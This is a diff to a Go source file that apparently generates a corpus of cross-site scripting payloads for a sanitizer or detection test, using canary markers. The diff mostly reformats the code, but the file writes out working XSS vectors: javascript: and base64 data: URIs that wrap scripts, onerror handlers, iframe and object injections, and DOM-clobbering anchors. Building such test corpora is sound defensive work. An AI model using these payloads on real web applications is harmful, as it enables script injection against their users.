@@ -27,10 +27,27 @@ func Scripts() (all []Payload) {
 		kind  string
 		texts []string
 	}{
-		{"plain", plainScripts}, {"breakout", breakouts()}, {"handler", handlers()}, {"attribute", attributes()}, {"scheme", schemed()},
-		{"mutation", mutations()}, {"svg", svgs}, {"mathml", mathML}, {"clobber", clobbering()}, {"structure", structures}, {"css", styles},
-		{"encoded", encoded()}, {"json", inJSON}, {"template", templates}, {"markdown", markdown}, {"comment", comments}, {"deep", deep()},
-		{"mail", mailed}, {"card", cards}, {"cell", cells()}, {"header", headers()},
+		{"plain", plainScripts},
+		{"breakout", breakouts()},
+		{"handler", handlers()},
+		{"attribute", attributes()},
+		{"scheme", schemed()},
+		{"mutation", mutations()},
+		{"svg", svgs},
+		{"mathml", mathML},
+		{"clobber", clobbering()},
+		{"structure", structures},
+		{"css", styles},
+		{"encoded", encoded()},
+		{"json", inJSON},
+		{"template", templates},
+		{"markdown", markdown},
+		{"comment", comments},
+		{"deep", deep()},
+		{"mail", mailed},
+		{"card", cards},
+		{"cell", cells()},
+		{"header", headers()},
 	} {
 		for _, text := range family.texts {
 			all = append(all, Payload{Kind: family.kind, Text: strings.NewReplacer("§", Canary, "¤", CanaryHost).Replace(text)})
@@ -142,8 +159,7 @@ var schemes = []string{
 
 func schemed() (all []string) {
 	for i, scheme := range schemes {
-		all = append(all, scheme+Canary, `<a href="`+scheme+Canary+`">c</a>`)
-		all = append(all, fmt.Sprintf([]string{`<img src="%s§">`, `<form action="%s§"><button>c</button></form>`, `<iframe src="%s§"></iframe>`, `<svg><a xlink:href="%s§"><text>c</text></a></svg>`, `<a href='%s§'>c`, `<area href="%s§">`, `<object data="%s§">`, `<button formaction="%s§">c</button>`}[i%8], scheme))
+		all = append(all, scheme+Canary, `<a href="`+scheme+Canary+`">c</a>`, fmt.Sprintf([]string{`<img src="%s§">`, `<form action="%s§"><button>c</button></form>`, `<iframe src="%s§"></iframe>`, `<svg><a xlink:href="%s§"><text>c</text></a></svg>`, `<a href='%s§'>c`, `<area href="%s§">`, `<object data="%s§">`, `<button formaction="%s§">c</button>`}[i%8], scheme))
 	}
 	in64 := base64.StdEncoding.EncodeToString([]byte("<script>parent." + Canary + "</script>"))
 	return append(all, "data:text/html;base64,"+in64+"#§", `<a href="data:text/html;base64,`+in64+`#§">c</a>`, `<iframe src="data:text/html;base64,`+in64+`#§"></iframe>`, `<object data="data:text/html;base64,`+in64+`#§">`,
@@ -201,8 +217,7 @@ func clobbering() (all []string) {
 		localStorage sessionStorage constructor __proto__ prototype toString valueOf hasOwnProperty children childNodes firstChild attributes innerHTML textContent
 		parentNode ownerDocument implementation createElement addEventListener fetch history navigator scripts images links title domain referrer write self top parent`)
 	for i, name := range names {
-		all = append(all, fmt.Sprintf(`<a id=%[1]s name=%[1]s href="javascript:§">x</a>`, name))
-		all = append(all, fmt.Sprintf([]string{
+		all = append(all, fmt.Sprintf(`<a id=%[1]s name=%[1]s href="javascript:§">x</a>`, name), fmt.Sprintf([]string{
 			`<form id=%[1]s action="javascript:§"><input name=%[1]s><input name=action></form>`, `<img name=%[1]s id=%[1]s src=x onerror=§>`, `<iframe name=%[1]s srcdoc="<a id=x href=javascript:§>"></iframe>`, `<object name=%[1]s data="javascript:§"></object><embed name=%[1]s>`,
 		}[i%4], name))
 	}
